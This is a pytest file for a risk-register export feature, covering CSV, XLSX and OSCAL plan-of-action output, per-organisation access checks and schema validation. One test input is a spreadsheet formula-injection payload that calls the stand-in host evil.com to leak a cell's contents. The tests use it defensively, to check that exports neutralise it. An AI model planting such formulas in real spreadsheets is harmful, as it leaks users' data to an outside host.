"""A force exports its register: one spreadsheet row per scenario with its levels, treatment,
actions and acceptance, formula text made inert; an OSCAL plan of action and milestones that
trestle reads back and NIST's schema accepts. Nobody exports another organisation's register."""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta
from typing import Any

import pytest
from openpyxl import load_workbook
from sqlalchemy.orm import Session, sessionmaker
from trestle.oscal.poam import PlanOfActionAndMilestones

from frameworks.oscal.poam import parse_poam
from frameworks.oscal.validation import oscal_schema_errors
from kernel.errors import ValidationFailed
from kernel.settings import Settings
from posture.identity.permissions import NotFound, PermissionDenied, Principal
from posture.risk.exports import (
    EXPORT_COLUMNS,
    register_csv,
    register_poam,
    register_xlsx,
)
from posture.risk.forms import read_form
from posture.risk.scenarios import ScenarioForm, raise_scenario
from posture.risk.treatments import (
    ActionForm,
    TreatmentForm,
    add_action,
    add_treatment,
    set_action_status,
)
from posture.storage.engine import transaction
from posture.storage.models import RiskAcceptance
from posture.storage.models.enums import ActionStatus, Role, TreatmentKind
from tests.identity.world import World
from tests.risk_register.test_treatments import second_force

TODAY = date(2026, 12, 6)
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'

WorldDb = tuple[World, sessionmaker[Session], Settings]


def _raise(sessions: sessionmaker[Session], world: World, title: str, **changes: Any) -> int:
    data: dict[str, Any] = {
        "organisation_id": world.orgs["f1"].organisation_id,
        "subject_kind": "organisation",
        "title": title,
        "threat": "data-breach",
        "threat_text": "An organised crime group seeks case files.",
        "vulnerability_text": "Shared accounts on the control room terminals.",
        "inherent_likelihood": "likely",
        "inherent_impact": "major",
        "current_impact": "major",
    } | changes
    with transaction(sessions) as session:
        scenario = raise_scenario(
            session, world.principal(Role.FORCE_ASSESSOR), read_form(ScenarioForm, data), TODAY
        )
        return scenario.id


def _treat(sessions: sessionmaker[Session], world: World, scenario_id: int) -> list[int]:
    """A mitigation with one action done and one overdue; the ids of the two actions."""
    assessor = world.principal(Role.FORCE_ASSESSOR)
    with transaction(sessions) as session:
        treatment = add_treatment(
            session,
            assessor,
            scenario_id,
            TreatmentForm(kind=TreatmentKind.MITIGATE, description="Issue personal accounts"),
        )
        ids = [
            add_action(
                session,
                assessor,
                treatment.id,
                ActionForm(title=title, owner="IT lead", due_on=due, addresses=["A4.b"]),
            ).id
            for title, due in (
                ("Retire the shared accounts", TODAY - timedelta(days=3)),
                ("Enrol every operator", TODAY + timedelta(days=30)),
            )
        ]
        set_action_status(session, assessor, ids[1], ActionStatus.DONE, TODAY)
    return ids


def _accept(sessions: sessionmaker[Session], world: World, scenario_id: int, until: date) -> None:
    # Written as a row: the acceptance rules are tests/risk_register/test_acceptances.py's.
    with transaction(sessions) as session:
        session.add(
            RiskAcceptance(
                scenario_id=scenario_id,
                approver_user_id=world.users[Role.SIRO],
                approver_role="siro",
                rationale="Accepted while the accounts are replaced",
                residual_level="medium",
                expires_on=until,
            )
        )


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_the_csv_has_a_row_per_scenario_with_treatment_actions_and_acceptance(
    world_db: WorldDb,
) -> None:
    world, sessions, _ = world_db
    treated = _raise(sessions, world, "Control room loses its case files")
    _treat(sessions, world, treated)
    _accept(sessions, world, treated, date(2027, 6, 30))
    untreated = _raise(sessions, world, "Supplier portal credentials reused")
    with sessions() as session:
        rows = _rows(
            register_csv(
                session,
                world.principal(Role.FORCE_ASSESSOR),
                world.orgs["f1"].organisation_id,
                TODAY,
            )
        )
    assert [int(row["id"]) for row in rows] == [treated, untreated]
    assert list(rows[0]) == list(EXPORT_COLUMNS)
    first, second = rows
    assert first["treatment"] == "mitigate"
    assert first["actions"] == (
        f"2 action(s): 1 planned, 1 done; next due {TODAY - timedelta(days=3)}; 1 overdue"
    )
    assert first["accepted_until"] == "2027-06-30"
    assert first["current_impact"] == "major"
    assert first["inherent_level"]
    assert second["treatment"] == "none"
    assert second["actions"] == "none"
    assert second["accepted_until"] == ""


def test_a_formula_title_comes_out_inert_in_csv_and_xlsx(world_db: WorldDb) -> None:
    world, sessions, _ = world_db
    _raise(sessions, world, FORMULA)
    reader, f1 = world.principal(Role.NATIONAL_ASSESSOR), world.orgs["f1"].organisation_id
    with sessions() as session:
        text = register_csv(session, reader, f1, TODAY)
        workbook = register_xlsx(session, reader, f1, TODAY)
    [row] = _rows(text)
    assert row["title"] == "'" + FORMULA
    sheet = load_workbook(io.BytesIO(workbook)).active
    assert sheet is not None
    header = [cell.value for cell in sheet[1]]
    title = sheet.cell(row=2, column=header.index("title") + 1)
    assert title.value == FORMULA
    assert title.data_type == "s"  # text, never a formula Excel would run


def test_the_poam_validates_and_round_trips_through_trestle(world_db: WorldDb) -> None:
    world, sessions, _ = world_db
    treated = _raise(sessions, world, "Control room\nloses\tits case files")
    action_ids = _treat(sessions, world, treated)
    _accept(sessions, world, treated, date(2027, 6, 30))
    untreated = _raise(sessions, world, FORMULA)
    with sessions() as session:
        document = register_poam(
            session, world.principal(Role.SIRO), world.orgs["f1"].organisation_id, TODAY
        )
    assert oscal_schema_errors(document) == []
    plan = parse_poam(document)
    assert isinstance(plan, PlanOfActionAndMilestones)
    # Read back and written out again, nothing is lost or changed.
    again = plan.model_dump(mode="json", by_alias=True, exclude_none=True)
    assert again == document["plan-of-action-and-milestones"]
    assert plan.risks is not None
    assert len(plan.poam_items) == len(plan.risks) == 2
    risk_uuids = {risk.uuid for risk in plan.risks}
    assert {item.related_risks[0].risk_uuid for item in plan.poam_items} == risk_uuids
    first, second = plan.risks
    assert first.title == "Control room loses its case files"
    props = {p.name: p.value for p in first.props}
    assert props["scenario-id"] == str(treated)
    assert props["accepted-until"] == "2027-06-30"
    assert [f.name for f in first.characterizations[0].facets] == ["likelihood", "impact", "risk"]
    [remediation] = first.remediations
    assert remediation.lifecycle == "planned"  # one action is not done yet
    tasks = remediation.tasks
    assert [t.type.root for t in tasks] == ["milestone", "milestone"]
    assert [{p.name: p.value for p in t.props}["action-id"] for t in tasks] == [
        str(i) for i in action_ids
    ]
    assert tasks[0].timing.on_date.date.date() == TODAY - timedelta(days=3)
    assert first.deadline is not None
    assert first.deadline.date() == TODAY - timedelta(days=3)
    assert {p.name: p.value for p in second.props}["scenario-id"] == str(untreated)
    assert second.remediations is None
    assert second.title == FORMULA


def test_an_empty_register_has_no_poam_to_give(world_db: WorldDb) -> None:
    world, sessions, _ = world_db
    with sessions() as session, pytest.raises(ValidationFailed, match="no scenarios"):
        register_poam(
            session, world.principal(Role.FORCE_ASSESSOR), world.orgs["f1"].organisation_id, TODAY
        )


@pytest.mark.parametrize("export", [register_csv, register_xlsx, register_poam])
def test_no_one_exports_another_organisations_register(world_db: WorldDb, export: Any) -> None:
    world, sessions, _ = world_db
    _raise(sessions, world, "Control room loses its case files")
    f1 = world.orgs["f1"].organisation_id
    other_force: Principal = second_force(sessions, Role.FORCE_ASSESSOR)
    with sessions() as session:
        with pytest.raises(NotFound):
            export(session, other_force, f1, TODAY)
        with pytest.raises(PermissionDenied):
            export(session, world.principal(Role.SUPPLIER_ADMIN), f1, TODAY)


def test_a_register_of_sixty_scenarios_exports_every_one(world_db: WorldDb) -> None:
    world, sessions, _ = world_db
    made = [_raise(sessions, world, f"Scenario number {n:02d}") for n in range(60)]
    f1 = world.orgs["f1"].organisation_id
    with sessions() as session:
        rows = _rows(register_csv(session, world.principal(Role.FORCE_ASSESSOR), f1, TODAY))
        document = register_poam(session, world.principal(Role.FORCE_ASSESSOR), f1, TODAY)
    assert [int(row["id"]) for row in rows] == made
    items = document["plan-of-action-and-milestones"]["poam-items"]
    assert len(items) == 60
    assert len({item["uuid"] for item in items}) == 60
    assert oscal_schema_errors(document) == []


@pytest.mark.parametrize("export", [register_csv, register_xlsx, register_poam])
def test_a_supplier_keeps_no_register_to_export(world_db: WorldDb, export: Any) -> None:
    world, sessions, _ = world_db
    with sessions() as session, pytest.raises(ValidationFailed, match="only a force or a national"):
        export(
            session, world.principal(Role.PLATFORM_ADMIN), world.orgs["s1"].organisation_id, TODAY
        )
